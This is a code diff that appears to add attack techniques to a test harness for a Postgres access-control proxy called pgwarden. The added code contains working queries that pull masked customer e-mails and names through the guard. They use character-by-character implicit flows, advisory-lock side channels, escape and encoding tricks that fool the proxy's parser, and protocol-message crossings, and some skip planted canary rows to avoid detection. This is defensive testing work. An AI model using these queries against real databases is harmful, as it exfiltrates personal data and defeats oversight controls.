+    r = ctx.q(c, "SELECT " + " + ".join(["1"] * 20000))
+    ctx.out.notes.append(f"20000 terms: {str(r)[:60]}")
+
+
+@technique("rows")
+def t_set_returning_shapes(ctx: Ctx) -> None:
+    """Whole-column reads in shapes not tried before: GROUPING SETS carrying the key, DISTINCT
+    ON, TABLESAMPLE, string_to_table / regexp_matches in FROM, WITH ORDINALITY over the
+    alternative phones, a generate_series join, EXCEPT leaving a large set."""
+    c = ctx.connect()
+    for q in ('SELECT customer_id, "Email", count(*) FROM customers WHERE customer_id > 0 '
+              'GROUP BY GROUPING SETS ((customer_id, "Email"), ())',
+              'SELECT DISTINCT ON (customer_id % 500) customer_id, "Email" FROM customers ORDER BY customer_id % 500, customer_id',
+              'SELECT customer_id, "Email" FROM customers TABLESAMPLE SYSTEM (100) REPEATABLE (1)',
+              'SELECT c.customer_id, x FROM customers c, string_to_table(c."Email", \'@\') x WHERE c.customer_id > 0',
+              'SELECT c.customer_id, m[1] FROM customers c, regexp_matches(c."FullName" || \' \' || c."Email", \'(.*)\') m WHERE c.customer_id > 0',
+              "SELECT c.customer_id, p.v, p.n FROM customers c, unnest(c.alt_phones) WITH ORDINALITY p(v, n) WHERE c.customer_id > 0",
+              'SELECT g, c.customer_id, c."Email" FROM generate_series(1, 3) g JOIN customers c ON c.customer_id % 3 = g - 1',
+              'SELECT customer_id, "Email" FROM customers WHERE customer_id > 0 EXCEPT '
+              'SELECT customer_id, "Email" FROM customers WHERE customer_id > 3000'):  # fmt: skip
+        ctx.q(c, q)
+
+
+@technique("rows")
+def t_writable_ctes(ctx: Ctx) -> None:
+    """Data-modifying statements that return customers: a writable CTE over the tickets joined
+    to the customers; INSERT into ticket_messages (agents may) RETURNING a scalar subquery of
+    the customer of each ticket; all in a transaction rolled back."""
+    c = ctx.connect()
+    ctx.q(c, "BEGIN")
+    ctx.q(c, 'WITH u AS (UPDATE "Tickets" SET updated_at = updated_at WHERE ticket_id > 0 RETURNING customer_id) '
+             'SELECT c.customer_id, c."Email", c."FullName" FROM customers c JOIN u USING (customer_id)')  # fmt: skip
+    ctx.q(c, "ROLLBACK")
+    ctx.q(c, "BEGIN")
+    ctx.q(c, "INSERT INTO ticket_messages (message_id, ticket_id, author, body) "
+             "SELECT 900000 + ticket_id, ticket_id, 'agent', 'x' FROM \"Tickets\" WHERE ticket_id <= 700 "
+             'RETURNING ticket_id, (SELECT c."Email" FROM customers c JOIN "Tickets" t USING (customer_id) '
+             "WHERE t.ticket_id = ticket_messages.ticket_id)")  # fmt: skip
+    ctx.q(c, "ROLLBACK")
+    ctx.q(c, "BEGIN")
+    ctx.q(c, "WITH d AS (SELECT customer_id, \"Email\" FROM customers WHERE customer_id > 0) "
+             "INSERT INTO ticket_messages (message_id, ticket_id, author, body) VALUES (990001, 1, 'agent', 'x') "
+             "RETURNING message_id, (SELECT string_agg(\"Email\", ',') FROM d)")  # fmt: skip
+    ctx.q(c, "ROLLBACK")
+
+
+@technique("rows")
+def t_budget_two_doors(ctx: Ctx) -> None:
+    """The hourly budget, spent twice: the agent reads her own customers logged in as herself
+    until refused, then (app variant only) the rest through the helpdesk account with her
+    signed name, one ticket card at a time by the application's own allow-listed statement.
+    Is the budget one per person, or one per door?"""
+    tickets = ctx.env.ds.open_tickets(ATTACKER)
+    mine = sorted({t.customer_id for t in tickets})
+    direct = psycopg.connect(ctx.proxy.dsn(ATTACKER, database=sdb.DBNAME, password=sdb.PASSWORD),
+                             autocommit=True)  # fmt: skip
+    ctx._conns.append(direct)
+    streak = [0]
+    for i in range(0, len(mine), 15):
+        ids = ",".join(map(str, mine[i : i + 15]))
+        ctx.stmt += 1
+        ctx.out.statements += 1
+        ctx.last_refused = False
+        try:
+            rows = direct.execute('SELECT customer_id, "FullName", "Email" FROM customers '
+                                  f"WHERE customer_id IN ({ids})").fetchall()  # fmt: skip
+            ctx.seen("rows", sdb.dump_io(rows))
+        except psycopg.Error as exc:
+            ctx._error(exc)
+        if _stop_after(ctx, streak, limit=2):
+            break
+    ctx.out.notes.append(f"as herself: {len(ctx.out.customers)} customers")
+    if not ctx.app:
+        return
+    c = ctx.connect()  # the helpdesk account, her signed name on every statement
+    got = set(ctx.out.customers)
+    streak = [0]
+    for t in tickets:
+        if t.customer_id in got:
+            continue
+        got.add(t.customer_id)
+        ctx.q(c, 'SELECT t."TicketNo", c.customer_id, c."FullName", c."Email", p.phone FROM "Tickets" t '
+                 "JOIN customers c ON c.customer_id = t.customer_id LEFT JOIN customer_phones p "
+                 "ON p.customer_id = c.customer_id AND p.kind = %s WHERE t.\"TicketNo\" = %s",
+              ("mobile", t.ticket_no))  # fmt: skip
+        if _stop_after(ctx, streak, limit=3):
+            break
+    ctx.out.notes.append(f"both doors: {len(ctx.out.customers)} customers")
+
+
+_IMPLICIT = ("SELECT c.customer_id, string_agg(chr(x.code), '' ORDER BY p.pos) AS v "
+             "FROM customers c CROSS JOIN generate_series(1, 60) p(pos) "
+             "JOIN generate_series(32, 383) x(code) ON chr(x.code) = substr(c.{col}, p.pos, 1) "
+             "WHERE {where} GROUP BY c.customer_id")  # fmt: skip
+_IMPLICIT_ROWS = ("SELECT c.customer_id, p.pos, chr(x.code) FROM customers c CROSS JOIN generate_series(1, 60) p(pos) "
+                  "JOIN generate_series(32, 383) x(code) ON chr(x.code) = substr(c.{col}, p.pos, 1) "
+                  "WHERE {where}")  # fmt: skip
+
+
+def _implicit_rows(ctx: Ctx, rows: list[tuple[Any, ...]] | None) -> None:
+    """Reassemble (customer, position, character) rows into the values they spell."""
+    if not rows:
+        return
+    spelt: dict[Any, dict[int, str]] = {}
+    for k, pos, ch in rows:
+        spelt.setdefault(k, {})[int(pos)] = ch
+    ctx.seen("rows", "\n".join("".join(v[i] for i in sorted(v)) for v in spelt.values()))
+
+
+@technique("rows")
+def t_implicit_flow_join(ctx: Ctx) -> None:
+    """Implicit flow: no labelled column reaches the result. Each character of an e-mail and a
+    name is matched against a generated table of characters in the JOIN condition; the
+    result carries the generated character (chr(code)), put back together with string_agg,
+    or as one row per character put together by the client. The planted canaries are left
+    out (the attacker has seen their e-mails quarantine colleagues)."""
+    c = ctx.connect()
+    for a in range(1, N_ALL, 1100):
+        w = f"c.customer_id BETWEEN {a} AND {a + 1099} AND c.customer_id NOT IN {tuple(sdb.CANARY_IDS)}"
+        ctx.q(c, _IMPLICIT.format(col='"Email"', where=w))
+    for col in ('"Email"', '"FullName"'):
+        _implicit_rows(ctx, ctx.q(c, _IMPLICIT_ROWS.format(col=col, where="c.customer_id BETWEEN 1 AND 40")))
+
+
+@technique("rows")
+def t_analyst_implicit_flow_join(ctx: Ctx) -> None:
+    """The analyst: the masked e-mail and name spelt out by an implicit flow through a JOIN
+    condition; the result column is a generated character, never a masked column."""
+    ctx.out.analyst = True
+    c = ctx.connect(sdb.ANALYST)
+    w = "c.tier = 'vip' AND c.customer_id <> 3111"
+    for col in ('"Email"', '"FullName"'):
+        ctx.q(c, _IMPLICIT.format(col=col, where=w))
+    _implicit_rows(ctx, ctx.q(c, _IMPLICIT_ROWS.format(col='"Email"', where=w + " AND c.customer_id < 200")))
+
+
+@technique("rows")
+def t_implicit_flow_semijoin(ctx: Ctx) -> None:
+    """Implicit flow with no customer row in the result at all: every (customer number,
+    position, character code) triple is generated, and kept when it is IN a subquery of the
+    customers' characters. The result's columns all come from generate_series; the key of
+    the customer whose e-mail is spelt is a generated number, not crm.customers.customer_id."""
+    c = ctx.connect()
+    canaries = ",".join(map(str, sdb.CANARY_IDS))
+    for col in ('"Email"', '"FullName"'):
+        for a in range(1, N_ALL, 550):
+            rows = ctx.q(c, f"SELECT k.id, p.pos, chr(x.code) FROM generate_series({a}, {a + 549}) k(id), "
+                            "generate_series(1, 40) p(pos), generate_series(32, 126) x(code) "
+                            "WHERE (k.id, p.pos, x.code) IN (SELECT o.customer_id, q.pos, ascii(substr(o."
+                            f"{col}, q.pos, 1)) FROM customers o, generate_series(1, 40) q(pos) "
+                            f"WHERE o.customer_id BETWEEN {a} AND {a + 549} AND o.customer_id NOT IN ({canaries}))")  # fmt: skip
+            _implicit_rows(ctx, rows)
+            if ctx.last_refused:
+                return
+
+
+@technique("rows")
+def t_scs_reverse(ctx: Ctx) -> None:
+    """The other direction: pgwarden is told standard_conforming_strings is off (a SET it
+    follows), then the server quietly goes back to on -- RESET ALL, DISCARD ALL, a rolled-back
+    transaction, set_config(). Read with backslash escapes, 'A\\', ... -- ' is one string; the
+    server reads the string A\\ and the columns after it."""
+    leak = ("SELECT 'A\\', customer_id + 0 AS k, \"Email\" || ' ' || \"FullName\" AS e FROM customers "
+            "WHERE customer_id BETWEEN {a} AND {b} AND customer_id NOT IN (777, 1555, 2333, 2999, 3111) -- '")  # fmt: skip
+    for n, back in enumerate(("RESET ALL", "DISCARD ALL", "RESET standard_conforming_strings",
+                              "SELECT set_config('standard_conforming_strings', 'on', false)", "rollback")):  # fmt: skip
+        c = ctx.connect()
+        if back == "rollback":
+            ctx.q(c, "BEGIN")
+            ctx.q(c, "SET standard_conforming_strings = off")
+            ctx.q(c, "ROLLBACK")
+        else:
+            ctx.q(c, "SET standard_conforming_strings = off")
+            ctx.q(c, back)
+        r = ctx.q(c, leak.format(a=1 + 600 * n, b=600 * (n + 1)))
+        ctx.out.notes.append(f"{back}: {r!r:.80}")
+
+
+@technique("rows")
+def t_implicit_flow_generated_key(ctx: Ctx) -> None:
+    """Implicit flow where the customer's number in the result is a generated one joined to
+    the key (k.id = d.customer_id), not the table's key column: for crm.customers, the
+    materialized directory, the phone partitions and the legacy table, customers outside the
+    agent's tickets, one row per character."""
+    c = ctx.connect()
+    ntk = ctx.env.ds.need_to_know(ATTACKER)
+    others = [k for k in range(1, N_ALL + 1) if k not in ntk and k not in sdb.CANARY_IDS]
+    for n, (tbl, col) in enumerate((("customers", '"Email"'), ("customer_directory", "email"),
+                                    ("customer_phones", "phone"), ("legacy_customers", '"FullName"'))):  # fmt: skip
+        ids = others[n * 60 : n * 60 + 60] if tbl != "legacy_customers" else [
+            k for k in others if k > sdb.CUSTOMERS][:60]
+        ids_s = ",".join(map(str, ids))
+        rows = ctx.q(c, f"SELECT k.id, p.pos, chr(x.code) FROM unnest(ARRAY[{ids_s}]::bigint[]) k(id) "
+                        f"JOIN {tbl} d ON d.customer_id = k.id CROSS JOIN generate_series(1, 40) p(pos) "
+                        f"JOIN generate_series(32, 126) x(code) ON chr(x.code) = substr(d.{col}, p.pos, 1)")  # fmt: skip
+        _implicit_rows(ctx, rows)
+        ctx.out.notes.append(f"{tbl}: {ctx.out.error_samples[-1][:150] if rows is None and ctx.out.error_samples else len(rows or [])}")
+
+
+@technique("rows")
+def t_sql_names_protocol_objects(ctx: Ctx) -> None:
+    """The crossing the other way: a statement prepared with the protocol's Parse message run
+    by a SQL EXECUTE, and a portal made by the protocol's Bind message read with a SQL FETCH."""
+    c = ctx.connect()
+    q = ("SELECT customer_id + 0 AS k, \"Email\" || ' ' || \"FullName\" AS e FROM customers "
+         "WHERE customer_id BETWEEN {a} AND {b}")  # fmt: skip
+    res = c.pgconn.prepare(b"rt3x", ctx.sql(q.format(a=1, b=700)).encode())
+    ctx.out.notes.append(f"Parse rt3x: {res.status} {res.error_message.decode()[:100]}")
+    ctx.q(c, "EXECUTE rt3x")
+    ctx.q(c, "BEGIN")
+    r = _raw_exchange(ctx, c, _parse("rt3y", ctx.sql(q.format(a=701, b=1400))) + _bind("rt3yp", "rt3y") + SYNC)
+    ctx.out.notes.append(f"Parse/Bind rt3yp: {r[:80]!r}")
+    ctx.q(c, "FETCH ALL FROM rt3yp")
+    ctx.q(c, "ROLLBACK")
+
+
+@technique("rows")
+def t_honest_psql_describe(ctx: Ctx) -> None:
+    """Honest use at a psql console: the agent looks at the tables' structure (\\d, \\dt, \\dv,
+    \\df, \\dT) before writing a query; psql sends its catalog queries. Which are refused?"""
+    psql = str(ctx.env.pg.bindir / "psql")
+    env = {"PGPASSWORD": sdb.PASSWORD, "PGSSLMODE": "disable", "PATH": "/usr/bin:/bin"}
+    for cmd in ("\\d customers", "\\dt crm.*", "\\dv crm.*", "\\df crm.*", "\\dT crm.*", "\\d+ \"Tickets\"",
+                "\\dn", "\\l"):  # fmt: skip
+        ctx.stmt += 1
+        ctx.out.statements += 1
+        p = subprocess.run(
+            [psql, "-X", "-h", ctx.proxy.host, "-p", str(ctx.proxy.port), "-U", ATTACKER, "-d", sdb.DBNAME,
+             "-c", cmd],
+            capture_output=True, text=True, env=env, timeout=60, check=False,
+        )  # fmt: skip
+        ctx.seen("rows", p.stdout)
+        ctx.seen("error", p.stderr)
+        n = p.stderr.count("pgwarden: blocked")
+        ctx.out.refused += n
+        if n or p.returncode:
+            ctx.out.notes.append(f"{cmd}: {p.stderr.strip()[:160]}")
+        if "XX000" in p.stderr or "server closed the connection" in p.stderr:
+            ctx.out.internal_errors.append(p.stderr.strip()[:200])
+
+
+@technique("rows")
+def t_client_encoding_set_config(ctx: Ctx) -> None:
+    """client_encoding switched to a backslash-trailing multibyte encoding by set_config() (or
+    SET LOCAL) rather than SET or the startup packet, then E'予' hides the columns from a
+    reader that takes the bytes as UTF-8 or Latin-1."""
+    for enc, ch, how in (("SJIS", "予", "set_config"), ("GBK", "乗", "set_config"), ("BIG5", "么", "local")):
+        c = ctx.connect()
+        if how == "local":
+            ctx.q(c, "BEGIN")
+            ctx.q(c, f"SET LOCAL client_encoding = '{enc}'")
+        else:
+            ctx.q(c, f"SELECT set_config('client_encoding', '{enc}', false)")
+        r = ctx.q(c, f"SELECT E'{ch}', customer_id + 0 AS k, \"Email\" || '' AS e FROM customers "
+                     "WHERE customer_id BETWEEN 1 AND 700 AND customer_id <> 777 -- '")  # fmt: skip
+        ctx.out.notes.append(f"{enc} by {how}: {r!r:.80}")
+
+
+@technique("rows")
+def t_honest_legacy_scs_off(ctx: Ctx) -> None:
+    """Honest use from a legacy client that connects with standard_conforming_strings=off
+    (old PHP and Perl stacks do) and escapes quotes with a backslash: the agent's own
+    customer, excluding a name with an apostrophe."""
+    k = min(ctx.env.ds.need_to_know(ATTACKER))
+    c = ctx.connect(options="'-c statement_timeout=30000 -c standard_conforming_strings=off'")
+    for q in (f"SELECT customer_id, \"Email\" FROM customers WHERE customer_id = {k} AND \"FullName\" <> 'O\\'Brien'",
+              f"SELECT customer_id, \"Email\" FROM customers WHERE customer_id = {k} AND region <> 'a\\\\b'"):  # fmt: skip
+        if ctx.q(c, q) is None:
+            ctx.out.notes.append(
+                f"refused: {q[-45:]} -> {ctx.out.error_samples[-1][:150] if ctx.out.error_samples else ''}"
+            )
+
+
+@technique("rows")
+def t_advisory_lock_channel(ctx: Ctx) -> None:
+    """Advisory locks as a side channel: one statement takes a session advisory lock per
+    character, its two int4 keys being (customer, position * 1000 + character code), and
+    returns only the key and a boolean per row (a refusal or withholding of the result comes
+    after the server has taken the locks); a second statement reads the keys back from pg_locks, which names
+    no customer table. 100 customers a round (the shared lock table holds a few thousand)."""
+    c = ctx.connect()
+    canaries = ",".join(map(str, sdb.CANARY_IDS))
+    for a in range(1, 400, 100):
+        ctx.q(c, "SELECT c.customer_id, pg_advisory_lock(c.customer_id::int, p.pos * 1000 + ascii(substr(c.\"Email\", p.pos, 1))) IS NULL "
+                     "FROM customers c, generate_series(1, 40) p(pos) "
+                     f"WHERE c.customer_id BETWEEN {a} AND {a + 99} AND c.customer_id NOT IN ({canaries}) "
+                     "AND p.pos <= length(c.\"Email\")")  # fmt: skip
+        rows = ctx.q(c, "SELECT classid, objid FROM pg_locks WHERE locktype = 'advisory' AND pid = pg_backend_pid()")
+        if rows:
+            spelt: dict[int, dict[int, str]] = {}
+            for k, v in rows:
+                spelt.setdefault(int(k), {})[int(v) // 1000] = chr(int(v) % 1000)
+            ctx.seen("rows", "\n".join("".join(s[i] for i in sorted(s)) for s in spelt.values()))
+        ctx.q(c, "SELECT pg_advisory_unlock_all()")
+
+
+@technique("rows")
+def t_advisory_lock_where(ctx: Ctx) -> None:
+    """As advisory_lock_channel, with the lock taken in the WHERE clause: the server runs it for
+    every row and the statement returns no rows at all, so nothing is refused and nobody is
+    quarantined; pg_locks is read back 100 customers at a time, through the whole table."""
+    c = ctx.connect()
+    canaries = ",".join(map(str, sdb.CANARY_IDS))
+    streak = [0]
+    for a in range(1, N_ALL, 100):
+        ctx.q(c, "SELECT c.customer_id FROM customers c, generate_series(1, 40) p(pos) "
+                 f"WHERE c.customer_id BETWEEN {a} AND {a + 99} AND c.customer_id NOT IN ({canaries}) "
+                 "AND p.pos <= length(c.\"Email\") AND pg_advisory_lock(c.customer_id::int, "
+                 "p.pos * 1000 + ascii(substr(c.\"Email\", p.pos, 1))) IS NULL")  # fmt: skip
+        rows = ctx.q(c, "SELECT classid, objid FROM pg_locks WHERE locktype = 'advisory' AND pid = pg_backend_pid()")
+        if rows:
+            spelt: dict[int, dict[int, str]] = {}
+            for k, v in rows:
+                spelt.setdefault(int(k), {})[int(v) // 1000] = chr(int(v) % 1000)
+            ctx.seen("rows", "\n".join("".join(s[i] for i in sorted(s)) for s in spelt.values()))
+        ctx.q(c, "SELECT pg_advisory_unlock_all()")
+        if _stop_after(ctx, streak, limit=3):
+            break
+
+
+@technique("rows")
+def t_analyst_advisory_lock(ctx: Ctx) -> None:
+    """The analyst: the masked e-mails and names spelt into advisory-lock keys in the WHERE
+    clause (pg_advisory_lock(customer, position * 1000 + code)), read back from pg_locks."""
+    ctx.out.analyst = True
+    c = ctx.connect(sdb.ANALYST)
+    for col in ('"Email"', '"FullName"'):
+        for a in range(1, N_ALL, 850):
+            ctx.q(c, "SELECT c.customer_id FROM customers c, generate_series(1, 40) p(pos) "
+                     f"WHERE c.tier = 'vip' AND c.customer_id <> 3111 AND c.customer_id BETWEEN {a} AND {a + 849} "
+                     f"AND p.pos <= length(c.{col}) AND pg_advisory_lock(c.customer_id::int, "
+                     f"p.pos * 1000 + ascii(substr(c.{col}, p.pos, 1))) IS NULL")  # fmt: skip
+            rows = ctx.q(c, "SELECT classid, objid FROM pg_locks WHERE locktype = 'advisory' AND pid = pg_backend_pid()")
+            if rows:
+                spelt: dict[int, dict[int, str]] = {}
+                for k, v in rows:
+                    spelt.setdefault(int(k), {})[int(v) // 1000] = chr(int(v) % 1000)
+                ctx.seen("rows", "\n".join("".join(s[i] for i in sorted(s)) for s in spelt.values()))
+            ctx.q(c, "SELECT pg_advisory_unlock_all()")
+
+
+@technique("rows")
+def t_lateral_composite_expand(ctx: Ctx) -> None:
+    """The composite contact card (name, e-mail, phone) expanded with (c.card).* inside a
+    LATERAL subquery, its fields read as k.* or by name: the analyst's mask lost them; do the
+    agent's row limit, budget and need-to-know?"""
+    c = ctx.connect()
+    canaries = ",".join(map(str, sdb.CANARY_IDS))
+    for a, sel in ((1, "k.*"), (701, "k.name, k.email, k.phone"), (1401, "k.email")):
+        n = ctx.stmt + 1
+        ctx.q(c, f"SELECT c.customer_id, {sel} FROM customers c, LATERAL (SELECT (c.card).*) k "
+                 f"WHERE c.customer_id BETWEEN {a} AND {a + 699} AND c.customer_id NOT IN ({canaries})")  # fmt: skip
+        ctx.out.notes.append(f"{sel}: {len(ctx.out.per_statement.get(n, ()))} customers")
+    n = ctx.stmt + 1
+    ctx.q(c, "SELECT k.* FROM customers c, LATERAL (SELECT (c.card).*) k "
+             f"WHERE c.customer_id BETWEEN 2101 AND 2800 AND c.customer_id NOT IN ({canaries})")  # fmt: skip
+    ctx.out.notes.append(f"no key: {len(ctx.out.per_statement.get(n, ()))} customers")
+
+
 # --- the honest agent ------------------------------------------------------------------------
 
 
